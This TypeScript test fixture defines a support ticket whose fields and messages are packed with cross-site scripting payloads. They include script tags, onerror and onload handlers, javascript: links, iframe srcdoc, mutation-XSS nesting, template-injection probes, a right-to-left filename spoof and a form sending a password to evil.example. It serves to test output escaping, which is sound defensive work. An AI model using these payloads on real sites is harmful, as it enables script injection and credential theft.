import { mail, web } from './entries';
import { cloud, customer, supportForm } from './people';
import type { Ticket } from './Ticket';

/** Whatever of this runs sets `window.__hacked`, which specs look for. */
const mallory = customer({
  id: 1023,
  name: '<img src=x onerror="window.__hacked=1">Mallory {{ticket.id}}',
  email: 'mallory@"><script>.example',
});

export const hostileMarkup: Ticket = {
  slug: 'hostile-markup',
  id: 48229,
  shows: 'script and markup in name, subject and message',
  subject: '<script>window.__hacked=2</script> & {{ticket.requester.name}} "quoted"',
  status: 'open',
  priority: 'normal',
  type: 'question',
  tags: ['<b>tag</b>', 'security'],
  brand: cloud,
  form: supportForm,
  channel: 'email',
  requester: mallory,
  organization: { id: 617, name: '<svg onload=window.__hacked=3>' },
  assignee: null,
  customFields: [
    { id: 4410004, name: 'Plan', value: '<iframe src="javascript:window.__hacked=4">' },
  ],
  createdAt: '2026-03-12T04:04:00Z',
  entries: [
    mail(
      mallory,
      '2026-03-12T04:04:00Z',
      '<p>My dashboard is broken and I am <b onmouseover="window.__hacked=5">really annoyed</b>.</p>' +
        '<img src=x onerror="window.__hacked=6"><script>window.__hacked=7</script><svg><script>window.__hacked=8</script></svg>' +
        '<a href="javascript:window.__hacked=9">click here</a> <a href="https://status.example">status page</a>' +
        '<iframe srcdoc="<script>parent.__hacked=10</script>"></iframe><style>body{display:none}</style>' +
        '<form action="https://evil.example"><input name="password"></form><math><mtext><script>window.__hacked=11</script></mtext></math>',
    ),
    web(
      mallory,
      '2026-03-12T04:09:00Z',
      '</textarea></script><script>window.__hacked=12</script> {% raw %}{{ 7 | times: 7 }} ${7*7} \u202Egnp.exe \u0000 \uD83D \uDE00 ' +
        'Z\u0351\u0363\u0364\u0365algo 👩‍👩‍👧‍👦 and this is the fourth time that I have to report it',
    ),
  ],
};
